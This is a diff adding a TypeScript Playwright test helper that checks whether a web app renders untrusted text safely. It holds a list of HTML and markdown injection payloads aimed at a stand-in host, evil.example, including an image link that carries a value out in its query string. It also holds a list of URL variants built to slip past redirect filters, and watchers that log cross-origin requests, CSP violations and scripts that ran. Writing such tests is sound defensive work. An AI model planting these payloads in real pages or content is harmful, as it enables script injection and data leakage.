@@ -1,0 +1,85 @@
+import type { BrowserContext, Page } from 'playwright-core'
+
+/** What a page might load, run or link to, wherever it took a text for more than a text. */
+export const attacks = [
+  '![x](https://evil.example/p.png?spent=12.34)',
+  '<img src=https://evil.example/i.png onerror="window.hit=1">',
+  '<script src=https://evil.example/s.js></script><script>window.hit=1</script>',
+  '"><iframe src=https://evil.example/f></iframe><svg onload=window.hit=1>',
+  '<a href=https://evil.example/a>Details</a> [Details](https://evil.example/b) https://evil.example/c',
+  '[Open](javascript:window.hit=1) <form action=https://evil.example><button>Approve</button></form>',
+  '<link rel=stylesheet href=//evil.example/x.css><style>@import "https://evil.example/y.css"</style>',
+  'url(https://evil.example/u) <base href=https://evil.example> <meta http-equiv=refresh content="0;//evil.example">',
+] as const
+
+export const allAttacks = attacks.join('\n')
+
+/** Addresses that lead out of the app, in the ways that browsers understand. */
+export const wayOut = [
+  'https://evil.example/',
+  '//evil.example/',
+  '/\\evil.example/',
+  '\\\\evil.example',
+  '/\t/evil.example/',
+  '/\n/evil.example',
+  '\t//evil.example/',
+  ' https://evil.example/',
+  'javascript:window.hit=1',
+  'java\nscript:window.hit=1',
+  'data:text/html,<script>window.hit=1</script>',
+  'mailto:thief@evil.example',
+  'blob:https://evil.example/1',
+]
+
+export interface Watch {
+  /** Addresses of other origins that were asked, or would have been but for the policy of the page. */
+  strangers: string[]
+  /** What the policy of the page had to hold back. */
+  violations: string[]
+  dialogs: string[]
+}
+
+/** Watches what a window asks for, from now on. */
+export async function watch(context: BrowserContext, page: Page, ...origins: string[]): Promise<Watch> {
+  const seen: Watch = { strangers: [], violations: [], dialogs: [] }
+  context.on('request', (request) => {
+    const url = new URL(request.url())
+    if (url.protocol.startsWith('http') && !origins.includes(url.origin)) seen.strangers.push(url.href)
+  })
+  context.on('page', (other) => seen.strangers.push(`a window: ${other.url()}`))
+  page.on('dialog', (dialog) => {
+    seen.dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await context.exposeFunction('tellViolation', (text: string) => seen.violations.push(text))
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+      const tell: unknown = Reflect.get(window, 'tellViolation')
+      if (typeof tell === 'function') tell(`${violatedDirective} ${blockedURI}`)
+    })
+  })
+  return seen
+}
+
+/** What is on a page that could lead or load from elsewhere, or did run. */
+export function foreignIn(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const found: string[] = []
+    const isOwn = (address: string) => new URL(address, location.href).origin === location.origin
+    for (const anchor of document.querySelectorAll('a, area, form, base, link')) {
+      const address = anchor.getAttribute('href') ?? anchor.getAttribute('action')
+      if (address !== null && !isOwn(address)) found.push(`${anchor.tagName} ${address}`)
+    }
+    for (const shown of document.querySelectorAll('img, iframe, embed, object, video, source, script[src]')) {
+      const address = shown.getAttribute('src') ?? shown.getAttribute('data') ?? ''
+      if (address !== '' && !isOwn(address) && !address.startsWith('blob:')) found.push(`${shown.tagName} ${address}`)
+    }
+    for (const odd of document.querySelectorAll(
+      'iframe, [onerror], [onload], meta[http-equiv=refresh], main svg image',
+    )) {
+      found.push(odd.outerHTML)
+    }
+    if (Reflect.get(window, 'hit') !== undefined) found.push('a script ran')
+    return found
+  })
+}
